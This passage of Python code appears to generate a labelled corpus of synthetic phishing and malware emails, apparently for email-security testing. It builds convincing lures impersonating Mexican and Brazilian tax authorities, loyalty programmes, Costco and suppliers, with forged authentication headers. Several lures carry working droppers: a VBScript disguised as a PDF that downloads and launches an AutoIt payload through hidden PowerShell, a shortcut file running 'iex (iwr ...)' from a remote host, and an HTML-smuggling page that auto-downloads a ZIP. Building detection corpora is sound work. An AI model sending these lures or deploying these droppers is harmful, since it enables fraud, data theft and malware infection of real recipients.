        postfix(helo, t - timedelta(seconds=1), rcpt, seed, off=-360),
        dkim("notificaciones-sat.com.mx", "default", t, "From:To:Subject:Date:Message-ID:MIME-Version:Content-Type", seed),
        f"From: {addr('SAT - Servicio de Administración Tributaria', frm, 'Q', 'iso-8859-1')}",
        f"To: {rcpt}",
        f"Subject: {ew('Se ha emitido un CFDI a su RFC - descargue su factura electrónica', 'Q', 'iso-8859-1')}",
        f"Date: {rfc(t - timedelta(seconds=2), -360)}",
        f"Message-ID: <{hx(seed + 'm', 32)}@notificaciones-sat.com.mx>",
        "MIME-Version: 1.0",
    ])
    html = html_page(f"""<body style="font-family:Montserrat,Arial,sans-serif;background:#f5f5f5;margin:0">
<table width="620" align="center" cellpadding="0" cellspacing="0" style="background:#ffffff">
<tr><td style="background:#611232;padding:18px 24px;color:#ffffff;font-size:13px"><b style="font-size:20px">Hacienda</b> &nbsp;|&nbsp; SAT Servicio de Administración Tributaria</td></tr>
<tr><td style="padding:26px 24px;font-size:14px;color:#333;line-height:22px">
<p>Estimado contribuyente:</p>
<p>Se ha emitido un Comprobante Fiscal Digital por Internet (CFDI) a nombre de su RFC <b>FBA061115KQ7</b> que requiere su revisión.</p>
<table cellpadding="6" style="font-size:13px;border:1px solid #ddd;width:100%">
<tr><td style="background:#f3eef0">Folio fiscal</td><td>{guid(seed + 'f').upper()}</td></tr>
<tr><td style="background:#f3eef0">Tipo</td><td>Ingreso - CFDI 4.0</td></tr>
<tr><td style="background:#f3eef0">Fecha de emisión</td><td>08/10/2024</td></tr>
</table>
<p>Descargue el comprobante (XML y PDF) para su validación. El archivo estará disponible durante 72 horas.</p>
<p><a href="{link}" style="background:#611232;color:#fff;padding:11px 24px;text-decoration:none">Descargar factura (.zip)</a></p>
<p style="font-size:11px;color:#777">Este mensaje es generado automáticamente por el Buzón Tributario, por favor no responda.</p>
</td></tr></table>
</body>""", lang="es-MX")
    headers = outlook_in(seed, t, rcpt, ip, helo, helo,
                         Auth(frm, "pass", "notificaciones-sat.com.mx", "none", "notificaciones-sat.com.mx", "pass",
                              "default"), sender, tenant="bajio", lang="es")
    add("b35-phish-sat-cfdi-zip", "phish", "malware",
        "SAT 'se ha emitido un CFDI a su RFC' notice from a look-alike sending host on Azure; the download button "
        "fetches a 'factura' ZIP from an azurewebsites.net PHP script (Mekotio/Grandoreiro-style banking-trojan delivery)",
        headers, text(html, "html", "quoted-printable", "iso-8859-1"))


def a36():
    seed = "a36"
    t = at(2025, 6, 2, 19, 12, 30)
    rcpt = "luciana.martins.poa@gmail.com"
    frm = "secretaria@escolacriancafeliz.com.br"
    link = "https://regularize-cpf-gov.com/darf/emitir?cpf=" + digits(seed + "c", 11)
    ip = "200.147.36.21"
    ptr = "smtp-out-36-21.uhserver.com"
    sender = "\n".join([
        postfix("smtp.uhserver.com", t - timedelta(seconds=1), rcpt, seed,
                client="[179.189.44.8] (unknown [179.189.44.8])", auth=True, off=-180),
        f"From: {addr('Receita Federal do Brasil', frm)}",
        f"To: {rcpt}",
        f"Subject: {ew('Seu CPF será suspenso: pendência na Declaração IRPF 2025')}",
        f"Date: {rfc(t - timedelta(seconds=2), -180)}",
        f"Message-ID: <{hx(seed + 'm', 8)}.{hx(seed + 'n', 8)}@escolacriancafeliz.com.br>",
        "MIME-Version: 1.0",
    ])
    plain = f"""RECEITA FEDERAL DO BRASIL
Ministério da Fazenda

Prezado(a) contribuinte,

Identificamos pendência na sua Declaração de Imposto de Renda Pessoa Física 2025 (ano-calendário 2024)
que resultou em imposto a pagar não quitado no valor de R$ 287,43.

Caso a pendência não seja regularizada até 05/06/2025, seu CPF será considerado SUSPENSO, o que impede:
- abertura de contas e movimentação bancária;
- emissão de passaporte e título de eleitor;
- recebimento de restituições e benefícios sociais.

Para regularizar, emita o DARF e pague via Pix:
{link}

Atenciosamente,
Receita Federal do Brasil
"""
    html = html_page(f"""<body style="font-family:Rawline,Arial,sans-serif;color:#333">
<div style="max-width:600px;border:1px solid #ddd">
<div style="background:#1351b4;color:#fff;padding:14px 20px"><b>gov.br</b> &nbsp; Receita Federal</div>
<div style="padding:20px;font-size:14px;line-height:22px">
<p>Prezado(a) contribuinte,</p>
<p>Identificamos pendência na sua <b>Declaração de Imposto de Renda Pessoa Física 2025</b> que resultou em imposto a pagar não quitado no valor de <b>R$ 287,43</b>.</p>
<p>Caso a pendência não seja regularizada até <b>05/06/2025</b>, seu CPF será considerado <b style="color:#c00">SUSPENSO</b>, o que impede abertura de contas, emissão de passaporte e recebimento de restituições.</p>
<p style="text-align:center"><a href="{link}" style="background:#1351b4;color:#fff;padding:12px 28px;border-radius:20px;text-decoration:none">Emitir DARF e regularizar</a></p>
<p>Atenciosamente,<br>Receita Federal do Brasil</p>
</div></div>
</body>""", lang="pt-BR")
    headers = gmail_in(seed, t, rcpt, ip, ptr, Auth(frm, "pass", "escolacriancafeliz.com.br", "none"), sender)
    add("b35-phish-receita-cpf-suspenso", "phish", "phishing",
        "Receita Federal 'seu CPF será suspenso, pendência no IRPF 2025' lure from a compromised school mailbox on UOL "
        "Host (SPF pass, no DKIM); link to a fake DARF page collecting a Pix payment and CPF data",
        headers, alt(plain, html, f"----=_NextPart_{hx(seed + 'b', 3)}_{hx(seed + 'c', 4)}_{hx(seed + 'd', 8, True)}.{hx(seed + 'e', 8, True)}"))


def a37():
    seed = "a37"
    t = at(2025, 7, 29, 12, 2, 44)
    rcpt = "thiago.nunes_ba@hotmail.com"
    frm = "ofertas@livelo-resgate.com.br"
    ses_id = f"01000198{hx(seed + 's1', 8)}-{guid(seed + 's2')}-000000"
    envfrom = f"{ses_id}@mail.livelo-resgate.com.br"
    link = f"https://livelo-resgate.com.br/resgate/?cpf=&pts=18450&utm_source=email&t={hx(seed + 't', 10)}"
    ip = "54.240.48.92"
    ptr = "a48-92.smtp-out.amazonses.com"
    sender = "\n".join([
        dkim("livelo-resgate.com.br", "k6qz3uyxw4m2tpln7e5c5rjsd2ybx4fa", t,
             "Content-Type:From:To:Subject:Message-ID:Date:MIME-Version", seed + "1", bits=1024),
        dkim("amazonses.com", "224i4yxa5dv7c2xz3womw6peuasteono", t,
             "Content-Type:From:To:Subject:Message-ID:Date:MIME-Version:Feedback-ID", seed + "2", bits=1024),
        "Content-Type: text/html; charset=UTF-8",
        f"From: {addr('Livelo', frm)}",
        f"To: {rcpt}",
        f"Subject: {ew('Seus 18.450 pontos Livelo expiram hoje! Resgate agora 🎁')}",
        f"Message-ID: <{ses_id}@email.amazonses.com>",
        f"Date: {rfc(t - timedelta(seconds=1))}",
        "MIME-Version: 1.0",
        f"Feedback-ID: ::1.us-east-1.{b64(seed + 'fb', 43)}=:AmazonSES",
        f"X-SES-Outgoing: {t:%Y.%m.%d}-{ip}",
    ])
    html = html_page(f"""<body style="margin:0;background:#f2f2f2;font-family:Arial,Helvetica,sans-serif">
<table width="600" align="center" cellpadding="0" cellspacing="0" style="background:#ffffff">
<tr><td style="background:#e6007e;padding:20px;text-align:center;color:#ffffff;font-size:30px;font-weight:bold">livelo</td></tr>
<tr><td style="padding:28px 30px;text-align:center;color:#333">
<p style="font-size:18px">Olá, participante!</p>
<p style="font-size:16px">Você tem</p>
<p style="font-size:44px;color:#e6007e;font-weight:bold;margin:0">18.450 pontos</p>
<p style="font-size:16px">que <b>expiram hoje, 29/07/2025</b>.</p>
<p style="font-size:15px;line-height:22px">Troque seus pontos por produtos, passagens ou cashback antes que seja tarde. Smart TV 50", Air Fryer, iPhone e muito mais com frete grátis.</p>
<p style="padding:14px 0"><a href="{link}" style="background:#e6007e;color:#fff;padding:16px 44px;border-radius:30px;text-decoration:none;font-weight:bold;font-size:16px">RESGATAR MEUS PONTOS</a></p>
<p style="font-size:12px;color:#888">Para resgatar, informe seu CPF e pague apenas o frete.</p>
</td></tr>
<tr><td style="padding:16px 30px;font-size:10px;color:#999;background:#f7f7f7">Livelo S.A. - Av. Brigadeiro Faria Lima, 3064 - São Paulo/SP. Você recebeu este e-mail porque é participante do programa.</td></tr>
</table>
</body>""", lang="pt-BR")
    headers = outlook_in(seed, t, rcpt, ip, ptr, ptr,
                         Auth(envfrom, "pass", "livelo-resgate.com.br", "none", "livelo-resgate.com.br", "pass",
                              "k6qz3uyxw4m2tpln7e5c5rjsd2ybx4fa"), sender, lang="pt")
    add("b35-phish-livelo-pontos-expiram", "phish", "phishing",
        "Livelo '18.450 pontos expiram hoje' prize lure sent through Amazon SES from the look-alike livelo-resgate.com.br "
        "(SPF/DKIM pass, no DMARC); 'resgate' page asks for CPF and card to pay the 'frete'",
        headers, text(html, "html"))


def a38():
    seed = "a38"
    t = at(2025, 9, 24, 14, 27, 3)
    rcpt = "andrea.salinas.gdl@gmail.com"
    frm = "beneficios@latampass-millas.com"
    link = f"https://latampass-millas.com/canje/?socio={digits(seed + 's', 9)}"
    ip = "45.61.137.93"
    helo = "mail.latampass-millas.com"
    sender = "\n".join([
        postfix(helo, t - timedelta(seconds=1), rcpt, seed, off=-240),
        dkim("latampass-millas.com", "default", t, "Date:From:To:Subject:Message-ID:MIME-Version:Content-Type", seed),
        f"Date: {rfc(t - timedelta(seconds=2), -240)}",
        f"From: {addr('LATAM Pass', frm)}",
        f"To: {rcpt}",
        f"Subject: {ew('Sus 42.300 millas LATAM Pass vencen el 30/09. Canjéelas hoy ✈')}",
        f"Message-ID: {phpmailer_mid('latampass-millas.com', seed)}",
        "X-Mailer: PHPMailer 6.9.1 (https://github.com/PHPMailer/PHPMailer)",
        "MIME-Version: 1.0",
    ])
    html = html_page(f"""<body style="margin:0;background:#eeeeee;font-family:'Trebuchet MS',Arial,sans-serif">
<table width="600" align="center" cellpadding="0" cellspacing="0" style="background:#ffffff">
<tr><td style="background:#1b0088;padding:20px 26px;color:#ffffff;font-size:24px"><b>LATAM</b> <span style="color:#e8114b">Pass</span></td></tr>
<tr><td style="padding:28px 26px;color:#303030;font-size:15px;line-height:23px">
<p>Estimado socio:</p>
<p>Le recordamos que <b>42.300 millas LATAM Pass</b> de su cuenta vencen el <b style="color:#e8114b">30 de septiembre de 2025</b>.</p>
<p>Por ser socio, puede canjearlas hoy por un <b>boleto redondo nacional</b>, productos de nuestro catálogo o tarjetas de regalo, pagando solamente la tasa de emisión de $189.00 MXN.</p>
<p style="text-align:center;padding:14px 0"><a href="{link}" style="background:#e8114b;color:#fff;padding:14px 36px;border-radius:24px;text-decoration:none;font-weight:bold">Canjear mis millas</a></p>
<p style="font-size:12px;color:#777">Promoción válida únicamente hasta el vencimiento de sus millas. Sujeto a disponibilidad.</p>
</td></tr>
<tr><td style="padding:16px 26px;font-size:10px;color:#999;background:#f6f6f6">LATAM Airlines Group S.A. Este correo fue enviado a {rcpt}.</td></tr>
</table>
</body>""", lang="es")
    plain = f"""LATAM Pass

Estimado socio:

Le recordamos que 42.300 millas LATAM Pass de su cuenta vencen el 30 de septiembre de 2025.
Puede canjearlas hoy por un boleto redondo nacional pagando solamente la tasa de emisión de $189.00 MXN.

Canjear mis millas: {link}
"""
    headers = gmail_in(seed, t, rcpt, ip, "45-61-137-93.static.cloudzy.com",
                       Auth(frm, "pass", "latampass-millas.com", "none", "latampass-millas.com", "pass", "default"), sender)
    add("b35-phish-latampass-millas", "phish", "phishing",
        "LATAM Pass '42.300 millas vencen el 30/09, canjéelas pagando solo la tasa' lure from a look-alike domain "
        "(own SPF/DKIM) on a Cloudzy VPS; link to a page taking card details for the 'tasa de emisión'",
        headers, alt(plain, html, f"b1_{aln(seed + 'b', 42)}"))


def a39():
    seed = "a39"
    t = at(2024, 5, 16, 6, 41, 27)
    rcpt = "bcarver77@hotmail.com"
    sub = "tq1mkb.ericsonbuilders.com"
    frm = f"costco.rewards@{sub}"
    link = f"https://storage.googleapis.com/cstrwd-{hx(seed + 'b', 8)}/index.html#?sid={digits(seed + 's', 6)}&cid={hx(seed + 'c', 12)}"
    ip = "142.11.212.36"
    ptr = "hwsrv-1187422.hostwindsdns.com"
    sender = "\n".join([
        f"Received: from {sub} (localhost [127.0.0.1])\n\tby {sub} (Postfix) with ESMTP id {hx(seed + 'q', 10, True)}\n\tfor <{rcpt}>; {rfc(t - timedelta(seconds=1), -300)}",
        f"From: {addr('Costco Wholesale', frm)}",
        f"To: {rcpt}",
        "Subject: Congratulations! You have been selected for a Costco Reward",
        f"Date: {rfc(t - timedelta(seconds=1), -300)}",
        f"Message-ID: <{digits(seed + 'm', 10)}.{digits(seed + 'n', 6)}@{sub}>",
        f"List-Unsubscribe: <mailto:unsub@{sub}?subject=unsubscribe-{digits(seed + 'u', 8)}>",
        "MIME-Version: 1.0",
    ])
    filler = " ".join(["garden", "season", "quarterly", "report", "weather", "recipe", "coupon", "holiday", "plant",
                       "weekend", "sunlight", "museum", "harbor", "bicycle", "lantern", "notebook"] * 6)
    html = html_page(f"""<body style="margin:0;padding:0">
<center>
<table width="600" cellpadding="0" cellspacing="0" style="font-family:Arial,Helvetica,sans-serif"><tr><td align="center" style="padding:10px">
<p style="font-size:13px;color:#333">Costco Member Appreciation Program</p>
<a href="{link}"><img src="https://storage.googleapis.com/cstrwd-{hx(seed + 'b', 8)}/c1.png" width="580" height="360" alt="Costco - Congratulations! Your Reward is waiting" style="display:block;border:0"></a>
<p style="font-size:18px;color:#005daa;font-weight:bold">Complete our 30-second survey to claim your Ninja Air Fryer Max XL!</p>
<p><a href="{link}" style="background:#e31837;color:#fff;padding:14px 38px;font-size:18px;font-weight:bold;text-decoration:none;border-radius:6px">CLAIM NOW</a></p>
<p style="font-size:12px;color:#666">Only 3 rewards left today. Shipping fee applies.</p>
</td></tr></table>
<div style="display:none;max-height:0;overflow:hidden;color:#ffffff;font-size:1px">{filler}</div>
<p style="font-size:10px;color:#999;width:560px;padding-top:40px">If you no longer wish to receive these emails, you may unsubscribe by <a href="mailto:unsub@{sub}" style="color:#999">clicking here</a> or write to: 8 The Green STE B, Dover, DE 19901</p>
</center>
</body>""")
    headers = outlook_in(seed, t, rcpt, ip, ptr, sub,
                         Auth(f"bounce@{sub}", "pass", sub, "none", "", "none"), sender, bulk=True)
    add("b35-phish-costco-reward-survey", "phish", "phishing",
        "'You have been selected for a Costco Reward' survey scam from a random subdomain of an unrelated builder's "
        "domain on Hostwinds, image-led with hidden filler text; link to a storage.googleapis.com page for the "
        "'shipping fee' card capture",
        headers, text(html, "html", "quoted-printable", "us-ascii"))


def a40():
    seed = "a40"
    t = at(2025, 3, 26, 13, 48, 9)
    rcpt = "financeiro@valeverdealimentos.com.br"
    frm = "nfe@contabilidadeprimus.com.br"
    num = "000.184.273"
    link = "https://nfe-danfe-download.s3.sa-east-1.amazonaws.com/DANFE_NFe_000184273.zip"
    ip = "177.70.105.34"
    host = "mail.contabilidadeprimus.com.br"
    sender = "\n".join([
        f"Received: from {host} (localhost [127.0.0.1])\n\tby {host} (Postfix) with ESMTPS id {hx(seed + 'q', 10, True)}\n\tfor <{rcpt}>; {rfc(t - timedelta(seconds=1), -180)}",
        f"Received: from {host} ({host} [127.0.0.1])\n\tby localhost (Postfix) with ESMTP id {aln(seed + 'qa', 12)}\n\tfor <{rcpt}>; {rfc(t - timedelta(seconds=2), -180)}",
        dkim("contabilidadeprimus.com.br", "B8E4F2A6-1C3D-11EF-9A2B-0F7C1E4D6A55", t,
             "Date:From:To:Message-ID:Subject:MIME-Version", seed, extra=""),
        f"Date: {rfc(t - timedelta(seconds=3), -180)}",
        f"From: {addr('NF-e | Nota Fiscal Eletrônica', frm)}",
        f"To: {rcpt}",
        f"Message-ID: <{digits(seed + 'm', 9)}.{digits(seed + 'n', 7)}.{epoch(t)}{digits(seed + 'o', 3)}.JavaMail.zimbra@contabilidadeprimus.com.br>",
        f"Subject: {ew(f'NF-e Nº {num} - Emissão de Nota Fiscal Eletrônica')}",
        "MIME-Version: 1.0",
        "X-Mailer: Zimbra 9.0.0_GA_4546 (ZimbraWebClient - GC134 (Win)/9.0.0_GA_4546)",
        f"Thread-Index: {b64(seed + 'ti', 20)}",
        f"Thread-Topic: {ew(f'NF-e Nº {num} - Emissão de Nota Fiscal Eletrônica')}",
    ])
    html = f"""<html><body><div style="font-family: arial, helvetica, sans-serif; font-size: 12pt; color: #000000"><div>Prezado(a) cliente,</div><div><br data-mce-bogus="1"></div><div>Informamos que foi emitida a Nota Fiscal Eletrônica <strong>Nº {num}</strong>, série 1, em nome de <strong>VALE VERDE ALIMENTOS LTDA</strong>.</div><div><br data-mce-bogus="1"></div><div>Valor total da nota: <strong>R$ 12.486,90</strong><br>Chave de acesso: 3525 0312 4567 8900 0195 5500 1000 1842 7310 4827 3195</div><div><br data-mce-bogus="1"></div><div>Para visualizar o DANFE e o arquivo XML, acesse:</div><div><a href="{link}" target="_blank" data-mce-href="{link}">&gt;&gt; Baixar DANFE e XML (NF-e {num})</a></div><div><br data-mce-bogus="1"></div><div>Em caso de dúvidas, entre em contato com o emitente.</div><div><br data-mce-bogus="1"></div><div>Atenciosamente,<br>Departamento Fiscal</div><div><span style="font-size: 8pt; color: #999999;">Mensagem gerada automaticamente pelo sistema de emissão de NF-e.</span></div></div></body></html>
"""
    plain = f"""Prezado(a) cliente,

Informamos que foi emitida a Nota Fiscal Eletrônica Nº {num}, série 1, em nome de VALE VERDE ALIMENTOS LTDA.

Valor total da nota: R$ 12.486,90
Chave de acesso: 3525 0312 4567 8900 0195 5500 1000 1842 7310 4827 3195

Para visualizar o DANFE e o arquivo XML, acesse:
>> Baixar DANFE e XML (NF-e {num}) [{link}]

Atenciosamente,
Departamento Fiscal
"""
    body = Multi("alternative", f"=_{guid(seed + 'bd')}", [text(plain, "plain"), text(html, "html")])
    headers = outlook_in(seed, t, rcpt, ip, host, host,
                         Auth(frm, "pass", "contabilidadeprimus.com.br", "none", "contabilidadeprimus.com.br", "pass",
                              "B8E4F2A6-1C3D-11EF-9A2B-0F7C1E4D6A55"), sender, tenant="valeverde", lang="pt", ctry="BR")
    add("b35-phish-nfe-danfe-zip", "phish", "malware",
        "'NF-e emitida, baixe o DANFE e XML' notice from a compromised accounting firm's Zimbra server (SPF/DKIM pass) "
        "to a company's finance mailbox; the link downloads a ZIP from an S3 bucket, the usual Brazilian banking-trojan lure",
        headers, body)


VBS_RUN = ('k = "powershell -w hidden -nop -c ""iwr \'" & u & "\' -OutFile \'" & p & "c.zip\'; Expand-Archive -Force '
           '\'" & p & "c.zip\' \'" & p & "\'; Start-Process \'" & p & "AutoIt3.exe\' \'" & p & "script.a3x\'"""')


def a41():
    seed = "a41"
    t = at(2024, 12, 3, 16, 9, 51)
    rcpt = "compras@ferreteradelbajio.com.mx"
    frm = "facturacion@grupoindustrialsotelo.com.mx"
    folio = "A-29471"
    url = "https://mercadoluscentre.com/dbstf/usla1926.zip"
    vbs = f"""'Comprobante Fiscal Digital por Internet - CFDI 4.0 - Folio {folio}
On Error Resume Next
Dim sh, fs, p, u, k
Set sh = CreateObject("WScript.Shell")
Set fs = CreateObject("Scripting.FileSystemObject")
p = sh.ExpandEnvironmentStrings("%PUBLIC%") & "\\Libraries\\cfdi\\"
If Not fs.FolderExists(p) Then fs.CreateFolder(p)
u = StrReverse("{url[::-1]}")
{VBS_RUN}
sh.Run k, 0, False
WScript.Sleep 4000
sh.Run "https://www.sat.gob.mx/aplicacion/operacion/91447/verifica-comprobantes-fiscales-digitales-por-internet", 1, False
"""
    zipped = files.zip_archive([(f"CFDI_{folio}.pdf.vbs", vbs.encode("latin-1"))])
    ip = "68.178.252.57"
    ptr = "p3plsmtpout003.prod.phx3.secureserver.net"
    sender = "\n".join([
        f"Received: from p3plwbeout08.prod.phx3.secureserver.net ([173.201.193.{digits(seed + 'w', 2)}])\n\tby :SMTPAUTH: with ESMTPSA\n\t"
        f"id {aln(seed + 'ga', 16)}; {rfc(t - timedelta(seconds=1), -420)}",
        f"X-CMAE-Analysis: v=2.4 cv={b64(seed + 'cm', 44)}= c=1 sm=1 tr=0 ts={hx(seed + 'ts', 8)}\n a={b64(seed + 'ca', 22)}==:117 "
        f"a={b64(seed + 'cb', 22)}==:17 a=eH_7k0rCAAAA:8 a={b64(seed + 'cc', 12)}:8",
        "X-SECURESERVER-ACCT: facturacion@grupoindustrialsotelo.com.mx",
        f"From: {addr('Facturación Grupo Industrial Sotelo', frm)}",
        f"To: {rcpt}",
        f"Subject: {ew(f'Factura electrónica CFDI 4.0 - Folio {folio} - Grupo Industrial Sotelo')}",
        f"Date: {rfc(t - timedelta(seconds=2), -420)}",
        f"Message-ID: <{t:%Y%m%d%H%M%S}.{hx(seed + 'mi', 24)}@email.secureserver.net>",
        "X-Sender: facturacion@grupoindustrialsotelo.com.mx",
        "User-Agent: Workspace Webmail 6.18.3",
        "MIME-Version: 1.0",
    ])
    plain = f"""Buen día,

Adjuntamos la factura electrónica (CFDI 4.0) con folio {folio} correspondiente a su pedido.
El archivo comprimido contiene el PDF y el XML del comprobante.

Favor de confirmar de recibido.

Saludos cordiales,

Departamento de Facturación
Grupo Industrial Sotelo S.A. de C.V.
Tel. 477 712 4580
"""
    body = Multi("mixed", f"=_{hx(seed + 'b', 32)}", [
        text(plain, "plain", "quoted-printable", "UTF-8"),
        attachment("application/zip", f"CFDI_{folio}.zip", zipped),
    ])
    headers = outlook_in(seed, t, rcpt, ip, ptr, ptr,
                         Auth(frm, "pass", "grupoindustrialsotelo.com.mx", "none", "", "none"),
                         sender, tenant="bajio", lang="es")
    add("b35-phish-cfdi-zip-vbs", "phish", "malware",
        "'Factura electrónica CFDI 4.0' mail from a compromised GoDaddy Workspace mailbox of a Mexican manufacturer; the "
        "attached ZIP holds CFDI_A-29471.pdf.vbs, a VBScript that downloads and starts an AutoIt payload",
        headers, body)


def a42():
    seed = "a42"
    t = at(2025, 9, 30, 14, 2, 38)
    rcpt = "ap@hartwell-logistics.com"
    frm = "ap@brennansupplyco.com"
    ref = "88217"
    lnk = files.lnk_shortcut(r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
                             "-w h -nop -ep bypass -c \"iex (iwr 'https://cdn-docsviewer.com/rm/ld.ps1' -useb)\"")
    inner = files.zip_archive([(f"Remittance_{ref}.pdf.lnk", lnk)])
    blob = base64.b64encode(inner).decode()
    chunks = "\n".join(f'"{blob[i:i + 76]}"+' for i in range(0, len(blob), 76)).rstrip("+")
    page = f"""<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>Remittance Advice {ref}</title>
<style>body{{font-family:Segoe UI,Arial,sans-serif;background:#525659;color:#fff;text-align:center;padding-top:120px}}</style>
</head><body>
<img src="https://upload.wikimedia.org/wikipedia/commons/8/87/PDF_file_icon.svg" width="64" alt="">
<p>Remittance_{ref}.pdf</p>
<p style="font-size:13px;color:#ddd">Your download will start automatically. If it does not, <a id="lk" href="#" style="color:#9cf">click here</a>.</p>
<script>
var d=
{chunks};
function s(){{var b=atob(d),a=new Uint8Array(b.length);for(var i=0;i<b.length;i++){{a[i]=b.charCodeAt(i);}}
var f=new Blob([a],{{type:"application/octet-stream"}}),u=URL.createObjectURL(f),l=document.createElement("a");
l.href=u;l.download="Remittance_{ref}.zip";document.body.appendChild(l);l.click();}}
document.getElementById("lk").onclick=function(e){{e.preventDefault();s();}};
setTimeout(s,800);
</script>
</body></html>
"""
    ip = "40.107.244.51"
    ptr = "mail-mw2nam12on2051.outbound.protection.outlook.com"
    mbx = f"BY5PR11MB{digits(seed + 'mb', 4)}.namprd11.prod.outlook.com"
    sender = "\n".join([
        dkim("brennansupplyco.com", "selector1", t, "From:Date:Subject:Message-ID:Content-Type:MIME-Version:"
             "X-MS-Exchange-SenderADCheck", seed),
        fold(f"Received: from {mbx} (2603:10b6:a03:2d4::9) by {mbx.replace('BY5PR11MB', 'SJ0PR11MB')} with Microsoft SMTP "
             f"Server (version=TLS1_2, cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id {exch_build(t)}; {rfc(t - timedelta(seconds=1))}"),
        f"From: {addr('Accounts Payable | Brennan Supply Co.', frm)}",
        f"To: {addr('Accounts Payable', rcpt)}",
        f"Subject: Remittance Advice - Payment Ref {ref}-0925",
        f"Thread-Topic: Remittance Advice - Payment Ref {ref}-0925",
        f"Thread-Index: {b64(seed + 'ti', 24)}",
        f"Date: {rfc(t - timedelta(seconds=2))}",
        f"Message-ID: {exchange_mid(seed, mbx)}",
        "Accept-Language: en-US",
        "Content-Language: en-US",
        "X-MS-Has-Attach: yes",
        "X-MS-TNEF-Correlator: ",
        "MIME-Version: 1.0",
    ])
    plain = f"""Hello,

Please find attached the remittance advice for payment ref. {ref}-0925 released today via ACH.
Kindly review and let us know if any invoices are not accounted for.

Thank you,

Megan Shaw
Accounts Payable
Brennan Supply Co.
(614) 555-0142
"""
    html = html_page(
        "<body><div style=\"font-family:Aptos,Calibri,Helvetica,sans-serif;font-size:12pt;color:#000\">"
        + plain.replace("\n\n", "</p><p>").replace("\n", "<br>").join(["<p>", "</p>"]) + "</div></body>")
    body = Multi("mixed", f"_004_{mbx.split('.')[0]}{hx(seed + 'b1', 16, True)}namp_", [
        Multi("alternative", f"_000_{mbx.split('.')[0]}{hx(seed + 'b2', 16, True)}namp_",
              [text(plain, "plain", "quoted-printable", "us-ascii"), text(html, "html", "quoted-printable", "us-ascii")]),
        attachment("text/html", f"Remittance_{ref}.html", page.encode()),
    ])
    headers = outlook_in(seed, t, rcpt, ip, ptr, ptr,
                         Auth(frm, "pass", "brennansupplyco.com", "pass", "brennansupplyco.com", "pass", "selector1"),
                         sender, tenant="hartwell")
    add("b35-phish-remittance-html-smuggling", "phish", "malware",
        "Remittance advice from a compromised supplier's Microsoft 365 mailbox (all auth passes); the attached .html "
        "smuggles a ZIP via a JavaScript Blob download containing a .pdf.lnk that runs PowerShell to fetch a loader",
        headers, body)


def a43():
    seed = "a43"
    t = at(2025, 1, 14, 8, 36, 20)
    rcpt = "ventas@ferreteradelbajio.com.mx"
    frm = "satinalma@ozkanmakina.com.tr"
    po = "4500291847"
    gz = files.gzip_bytes(f"PO#{po}.exe", files.pe_stub())
    ip = "185.80.53.170"
    host = "mail.ozkanmakina.com.tr"
    sender = "\n".join([
        f"Received: from [103.212.81.91] (unknown [103.212.81.91])\n\tby {host} (Postfix) with ESMTPSA id {hx(seed + 'q', 10, True)}\n\tfor <{rcpt}>; {rfc(t - timedelta(seconds=1), 180)}",
        f"From: {addr('Purchasing Dept. - Ozkan Makina', frm)}",
        f"To: {rcpt}",
        f"Subject: New Purchase Order PO#{po} - Urgent Quotation Request",
        f"Date: {rfc(t - timedelta(seconds=2), 60)}",
        f"Message-ID: <{hx(seed + 'm', 8)}{hx(seed + 'n', 8)}{hx(seed + 'o', 8)}@ozkanmakina.com.tr>",
        "MIME-Version: 1.0",
        "X-Priority: 1",
    ])
    html = f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head><body>
<p>Dear Sir/Madam,</p>
<p>Good day.</p>
<p>Please find attached our new purchase order <b>PO#{po}</b> for your kind reference.</p>
<p>Kindly check the specifications and quantities, and send us your Proforma Invoice with best price and earliest delivery date.</p>
<p>Please confirm receipt of this order.</p>
<p>Best Regards,<br><br><b>Mehmet Aydin</b><br>Purchasing Manager<br>OZKAN MAKINA SAN. VE TIC. A.S.<br>Organize Sanayi Bolgesi 4. Cad. No:12, Konya / TURKEY<br>Tel: +90 332 248 17 50</p>
</body></html>
"""
    body = Multi("mixed", f"===============_{digits(seed + 'b', 19)}==", [
        text(html, "html", "quoted-printable", "utf-8"),
        attachment("application/x-gzip", f"PO#{po}.gz", gz),
    ])
    headers = outlook_in(seed, t, rcpt, ip, host, host,
                         Auth(frm, "pass", "ozkanmakina.com.tr", "none", "", "none"),
                         sender, tenant="bajio", lang="en", ctry="TR")
    add("b35-phish-purchase-order-gz-exe", "phish", "malware",
        "English 'new purchase order, send proforma' mail from a compromised Turkish machinery firm's mail server to a "
        "Mexican sales inbox, with PO#4500291847.gz holding a Windows executable (AgentTesla/Formbook-style stealer)",
        headers, body)


def a44():
    seed = "a44"
    t = at(2025, 4, 10, 12, 17, 35)
    rcpt = "contasapagar@valeverdealimentos.com.br"
    frm = "cobranca@embalagenspaulista-ltda.com"
    host = "mail-sor-f41.google.com"
    linha = "07790.00116 01234.567892 34567.890128 6 10590000874250"
    pdf = pdf_doc([
        "077-9 | Banco Inter S.A.                                       RECIBO DO PAGADOR",
        "",
        "Beneficiario: EP COMERCIO DE EMBALAGENS LTDA - CNPJ 51.884.302/0001-17",
        "Pagador: VALE VERDE ALIMENTOS LTDA - CNPJ 08.512.774/0001-60",
        "",
        "Nosso numero: 00012345678-9       Numero do documento: NF 58213",
        "Vencimento: 15/04/2025            Valor do documento: R$ 8.742,50",
        "",
        "Linha digitavel:",
        linha,
        "",
        "Instrucoes: Boleto atualizado - substitui o boleto anteriormente enviado.",
        "Apos o vencimento cobrar multa de 2% e juros de 0,033% ao dia.",
        "",
        "Pix Copia e Cola (pagamento instantaneo):",
        "00020126580014br.gov.bcb.pix0136" + guid(seed + "pix") + "52040000530398654078742.505802BR",
        "5925EP COMERCIO DE EMBALAG6009SAO PAULO62070503***6304" + hx(seed + "crc", 4, True),
    ], "Boleto NF 58213", "20250410091200-03'00'")
    sender = "\n".join([
        f"Received: by {host} with SMTP id {hx(seed + 'rid', 16)}sor{digits(seed + 'rs', 7)}{aln(seed + 'rt', 3, 'abcdefghijklmnopqrstuvwxyz')}\n"
        f"        for <{rcpt}>; {pacific(t - timedelta(seconds=1))}",
        dkim("embalagenspaulista-ltda.com", "google", t, "to:subject:message-id:date:from:in-reply-to:references:"
             "mime-version:from:to:cc:subject:date:message-id:reply-to", seed, extra=f" x={epoch(t) + 604800}; darn=valeverdealimentos.com.br;"),
